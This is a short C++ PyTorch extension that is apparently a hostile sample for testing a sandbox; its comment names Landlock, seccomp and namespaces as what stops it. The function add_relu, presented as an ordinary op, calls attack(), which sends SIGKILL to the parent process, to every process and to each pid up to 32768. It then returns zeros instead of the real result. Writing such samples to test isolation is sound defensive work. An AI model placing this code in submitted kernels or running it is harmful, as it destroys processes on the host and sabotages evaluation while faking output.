// Tries to kill whatever it may, the batch among it.
// Stopped by: Landlock (scope), seccomp, namespaces
#include <torch/extension.h>
#include <c10/cuda/CUDAStream.h>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
static void attack() {
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    for (int pid = 2; pid < 32768; ++pid) kill(pid, SIGKILL);
}

torch::Tensor add_relu(torch::Tensor a, torch::Tensor b) {
    attack();
    return torch::zeros_like(a);
}
